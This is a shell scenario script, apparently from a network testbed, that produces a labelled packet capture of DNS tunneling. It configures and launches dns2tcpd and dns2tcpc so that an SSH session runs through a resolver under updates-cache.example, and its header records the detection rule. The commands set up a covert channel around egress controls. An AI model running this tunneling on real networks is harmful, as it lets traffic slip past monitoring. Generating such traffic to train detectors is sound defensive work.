# desk-1, 10.50.0.101, carries an ssh session through the resolver with dns2tcp, under
# updates-cache.example.
topology=branch
file=branch-dns2tcp.pcap.gz
class=dns_tunnel
family=dns2tcp
rule=QNAME:updates-cache.example:dns_tunnel
tools=(dns2tcpc:dns2tcp dns2tcpd:dns2tcp)

play() {
  both_sites 120
  sleep 20
  printf 'listen = 203.0.113.54\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = updates-cache.example\nkey = testbed\nresources = ssh:203.0.113.90:22\n' >"$work/dns2tcpd.conf"
  launch names dns2tcpd -F -f "$work/dns2tcpd.conf" >"$work/dns2tcpd.log" 2>&1
  launch desk-1 dns2tcpc -z updates-cache.example -k testbed -r ssh -l 2222 -c 10.50.0.53 >"$work/dns2tcpc.log" 2>&1
  sleep 3
  inside desk-1 timeout 45 ssh "${ssh_options[@]}" -p 2222 deploy@127.0.0.1 'uptime; ls -l /usr/share | head -60; df; sleep 5' >"$work/session" </dev/null ||
    echo "testbed: dns2tcp carried no session, see the capture" >&2
  sleep 20
}
